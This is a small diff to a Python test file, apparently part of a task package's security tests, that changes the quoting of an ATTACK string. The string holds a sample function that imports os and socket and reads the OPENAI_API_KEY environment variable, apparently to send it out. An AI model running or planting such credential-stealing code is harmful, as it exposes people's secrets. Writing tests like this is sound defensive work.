@@ -19,7 +19,7 @@ import pytest
 
 ROOT = Path(__file__).parents[2]
 SECRET = "sk-not-for-you"
-ATTACK = '''
+ATTACK = """
 def _attack(who):
     import os, socket
     said = f"{who} {os.environ.get('OPENAI_API_KEY')}"
@@ -36,7 +36,7 @@ def _attack(who):
 
 
 _attack(NAME)
-'''
+"""
 FILES = {
     "environment/api/server.py": "server",
     "solution/solve.py": "solve",
